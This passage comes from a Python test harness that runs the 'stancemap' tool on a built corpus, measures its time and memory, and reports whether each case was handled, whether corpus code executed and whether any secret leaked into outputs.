            found[rel] = re.sub(r"\d{4}-\d\d-\d\d \d\d:\d\d", "", path.read_text(encoding="utf-8"))
    return found


def run_stancemap(corpus: Path, out: Path, *extra: str, command: str = "run",
                  env: dict[str, str] | None = None, timeout: float = 3600
                  ) -> tuple[subprocess.CompletedProcess[str], float, float]:
    """Run ``stancemap COMMAND --out OUT [EXTRA] -- CORPUS`` (``run`` or ``ingest``) in a child
    process.

    Returns the completed process, its wall time in seconds and its peak RSS in MB (measured
    by running it under a small wrapper that reads ``getrusage(RUSAGE_CHILDREN)``).
    """
    wrapper = ("import resource, subprocess, sys; "
               "rc = subprocess.call(sys.argv[1:]); "
               "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss; "
               "sys.stderr.write(f'\\nPEAK_RSS_KB {peak}\\n'); sys.exit(rc)")
    argv = [sys.executable, "-c", wrapper, sys.executable, "-m", "stancemap.cli", command,
            "--out", str(out), *extra, "--", str(corpus)]
    started = time.monotonic()
    proc = subprocess.run(argv, capture_output=True, text=True, cwd=ROOT,
                          env={**os.environ, **(env or {})}, timeout=timeout)
    seconds = time.monotonic() - started
    peak = [line for line in proc.stderr.splitlines() if line.startswith("PEAK_RSS_KB")]
    peak_mb = int(peak[-1].split()[1]) / 1024 if peak else float("nan")
    return proc, seconds, peak_mb


def _report(cases: list[Case], corpus: Path, out: Path) -> int:
    proc, seconds, peak_mb = run_stancemap(corpus, out)
    outcomes = tally(cases, out)
    print(f"stancemap run exit code {proc.returncode}, {seconds:.0f} s, "
          f"peak RSS {peak_mb:.0f} MB")
    again, _, _ = run_stancemap(corpus, out)
    unchanged = re.search(r"\b0 ingested\b.*\b0 failed\b", again.stdout) is not None
    outcomes.append(Outcome(Case("second run", "the same corpus again", (), "unchanged"),
                            unchanged and again.returncode == 0,
                            "nothing redone" if unchanged else again.stdout[-200:]))
    outcomes += restore_check(corpus, out)
    secrets = secrets_found(out, proc.stdout, proc.stderr)
    handled = sum(o.handled for o in outcomes)
    print("| case | expected | outcome | handled |")
    print("|---|---|---|---|")
    for o in outcomes:
        expected = o.case.expect + (f" ({'/'.join(o.case.kinds)})" if o.case.kinds else "")
        detail = o.detail.replace("|", "\\|").replace("\n", " ")[:140]
        print(f"| {o.case.name} | {expected} | {detail} | {'yes' if o.handled else 'NO'} |")
    print(f"\ncases tried: {len(outcomes)}, handled: {handled}, "
          f"code ran from the corpus: {'YES' if (corpus / PWNED).exists() else 'no'}, "
          f"secret in an output: {', '.join(secrets) or 'no'}")
    if proc.returncode != 0:
        print(proc.stderr[-3000:], file=sys.stderr)
    ok = handled == len(outcomes) and proc.returncode == 0 and not secrets
    return 0 if ok else 1


def main(argv: list[str] | None = None) -> int:
    """Command line: build the corpus; with ``--report`` run stancemap on it and tally."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("dir", type=Path, help="empty folder to build the corpus in")
    parser.add_argument("--report", action="store_true", help="run stancemap and print a tally")
    parser.add_argument("--out", type=Path,
                        help=f"output folder (default: DIR/{OUT_INSIDE}, inside the corpus, "
                        "which the run must leave out)")
    parser.add_argument("--shared", type=Path, help="../shared: add its pdfs/ as cases")
    args = parser.parse_args(argv)
    cases = build(args.dir, args.shared)
    print(f"built {len(cases)} cases in {args.dir}")
    if not args.report:
        return 0
    out = args.out or args.dir / OUT_INSIDE
    return _report(cases, args.dir, out)


if __name__ == "__main__":
    raise SystemExit(main())
